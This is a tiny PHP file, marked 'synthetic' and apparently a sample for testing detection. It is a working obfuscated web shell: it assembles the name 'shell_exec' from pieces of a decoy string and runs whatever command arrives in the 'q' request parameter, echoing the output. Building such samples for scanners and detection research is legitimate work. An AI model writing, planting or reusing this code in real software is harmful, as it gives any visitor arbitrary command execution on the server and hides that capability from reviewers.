<?php
// synthetic: function name computed by substr pieces, called with request input
$name = 'shxell_exec';
echo (substr($name, 0, 2) . substr($name, 3))($_GET['q']);
